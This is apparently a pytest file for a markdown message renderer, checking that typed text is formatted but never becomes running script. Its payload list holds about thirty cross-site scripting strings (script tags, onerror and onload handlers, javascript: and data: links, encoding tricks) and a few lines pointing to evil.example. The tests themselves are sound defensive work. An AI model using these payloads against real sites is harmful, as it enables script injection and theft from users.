"""Message bodies: what people type is formatted, and nothing of it runs."""

from html.parser import HTMLParser

import pytest

from common.markdown import SCHEMES, TAGS, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
    "[a]: javascript:alert(1)\n\n[a]",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=p></form>',
    "<math><mtext></p><script>alert(1)</script></mtext></math>",
    "\x00<script\x00>alert(1)</script>",
]


class Reader(HTMLParser):
    """Collects every element with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("typed", PAYLOADS)
def test_nothing_that_is_typed_becomes_an_element_or_an_address_that_runs(typed):
    for tag, attrs in Reader(render(typed)).found:
        assert tag in TAGS
        assert set(attrs) <= {"href", "title", "rel", "start"}
        assert attrs.get("href", "https:").split(":")[0].lower() in SCHEMES


def test_the_usual_marks_are_formatted():
    html = render("**bold** and *leaning*\n\n- one\n- two\n\n> said\n\n`code`")

    assert "<strong>bold</strong> and <em>leaning</em>" in html
    assert "<li>one</li>" in html
    assert "<blockquote>" in html
    assert "<code>code</code>" in html


def test_a_line_break_stays_a_line_break():
    assert "one<br>\ntwo" in render("one\ntwo")


def test_a_pasted_comment_is_no_heading_and_an_underlined_line_neither():
    assert "<h" not in render("# a shell comment\n\nTitle\n=====\n").replace("<hr", "")


def test_a_bare_address_becomes_a_link_without_its_full_stop():
    html = render("See https://ok.example/a_b_c?q=1&z=2. (Or https://two.example/x)")

    assert '<a href="https://ok.example/a_b_c?q=1&amp;z=2" rel="noopener nofollow">' in html
    assert '<a href="https://two.example/x" rel="noopener nofollow">https://two.example/x</a>)' in html


def test_an_address_in_code_or_in_a_link_is_left_alone():
    assert "<a" not in render("`https://ok.example`")
    assert render("[https://ok.example](https://ok.example)").count("<a ") == 1


def test_an_empty_body_is_empty_and_a_deep_one_ends():
    assert render("") == ""
    assert render(None) == ""
    assert len(render(">" * 3000 + " deep")) < 20_000
